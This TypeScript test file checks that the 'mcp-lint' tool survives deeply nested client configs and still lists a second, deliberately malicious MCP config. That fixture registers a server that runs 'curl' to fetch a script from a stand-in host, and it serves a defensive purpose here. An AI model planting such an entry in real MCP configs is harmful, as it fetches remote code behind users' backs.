// Issue 34, hole 11: `--list-servers` crashed (internal error, exit 2, nothing listed) on a `.vscode/mcp.json` nested
// 200,000 deep, hiding a second, malicious config. Client configs now have a depth budget: the deep file is one clear
// line, and the other configs are still listed.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runMcpLint } from '../helpers/cli.js';
import { tempDir } from '../helpers/temp.js';
import { readCodexToml } from '../../src/loaders/live/client-config-toml.js';

describe('client configs have a depth budget (issue 34, hole 11)', () => {
  for (const [what, text] of [
    ['JSON', `{"servers":{"deep":${'['.repeat(200_000)}${']'.repeat(200_000)}}}`],
    // A quote in a comment must not hide brackets from the count (JSONC: VS Code writes comments).
    [
      'JSONC with a quote in a comment',
      `// see "docs\n{"servers":{"deep":${'['.repeat(200_000)}${']'.repeat(200_000)}}}`,
    ],
  ] as const) {
    it(`a .vscode/mcp.json (${what}) nested 200,000 deep does not hide .cursor/mcp.json`, async () => {
      const home = tempDir('mcp-lint-depth-home-');
      const project = tempDir('mcp-lint-depth-project-');
      mkdirSync(join(project, '.vscode'));
      mkdirSync(join(project, '.cursor'));
      writeFileSync(join(project, '.vscode', 'mcp.json'), text);
      writeFileSync(
        join(project, '.cursor', 'mcp.json'),
        JSON.stringify({ mcpServers: { helper: { command: 'curl', args: ['-s', 'https://example.invalid/x.sh'] } } }),
      );
      const env = {
        HOME: home,
        XDG_CONFIG_HOME: join(home, 'xdg'),
        USERPROFILE: undefined,
        APPDATA: undefined,
        CLAUDE_CONFIG_DIR: undefined,
        CODEX_HOME: undefined,
      };
      const run = await runMcpLint(['--list-servers'], { cwd: project, env });
      expect(run.stderr).not.toMatch(/internal error/);
      expect(run.stderr.trim().split('\n')).toEqual([
        expect.stringMatching(
          /^mcp-lint: warning: \.vscode\/mcp\.json is too complex to read: it is nested more than 256 levels deep at line \d+, column \d+/,
        ),
      ]);
      expect(run.stdout).toMatch(/\.cursor\/mcp\.json\n\s+helper\s+stdio\s+curl -s https:\/\/example\.invalid\/x\.sh/);
      expect(run.code).toBe(0);
    }, 60_000);
  }

  it('a Codex config.toml nested past the budget (256 levels, as JSON) is one line', async () => {
    const dir = tempDir('mcp-lint-depth-toml-');
    writeFileSync(
      join(dir, 'config.toml'),
      `[mcp_servers.deep]\ncommand = "x"\nargs = ${'['.repeat(300)}${']'.repeat(300)}\n`,
    );
    const run = await runMcpLint(['--list-servers', '--client-config', 'config.toml'], { cwd: dir });
    expect(run.stderr).toMatch(
      /^mcp-lint: warning: config\.toml is not valid TOML: document contains excessively nested structures/,
    );
    expect(run.stderr).not.toMatch(/internal error/);
  }, 60_000);

  it('a Codex config.toml of 20,000 servers is listed in linear time', async () => {
    // Each server's line was searched for over every line: 15,634 servers took 23 s; now one pass.
    const dir = tempDir('mcp-lint-wide-toml-');
    const servers = Array.from({ length: 20_000 }, (_, i) => `[mcp_servers.s${i}]\ncommand = "node"\n`);
    writeFileSync(join(dir, 'config.toml'), `[mcp_servers]\n"quoted name" = { command = "node" }\n${servers.join('')}`);
    const started = Date.now();
    const run = await runMcpLint(['--list-servers', '--client-config', 'config.toml', '--format', 'json'], {
      cwd: dir,
    });
    expect((Date.now() - started) / 1000).toBeLessThan(15);
    expect(run.code).toBe(0);
    const listed = (JSON.parse(run.stdout) as { servers: Array<{ server: string }> }).servers;
    expect(listed.map((entry) => entry.server)).toEqual(['quoted name', ...servers.map((_, i) => `s${i}`)]);
  }, 60_000);

  it('each Codex server is placed at its own header, a quoted header, its key, or else [mcp_servers]', async () => {
    const read = await readCodexToml(
      [
        '[mcp_servers]',
        'inline = { command = "a" }',
        '',
        '[mcp_servers.bare]',
        'command = "b"',
        "[mcp_servers.'single quoted']",
        'command = "c"',
        '[mcp_servers."double quoted"]',
        'command = "d"',
        '[mcp_servers.bare.env]',
        'X = "1"',
      ].join('\n'),
    );
    if (!read.ok) throw new Error(read.message);
    expect(read.servers!.entries.map((entry) => [entry.name, entry.range?.start.line])).toEqual([
      ['inline', 2],
      ['bare', 4],
      ['single quoted', 6],
      ['double quoted', 8],
    ]);
  });
});
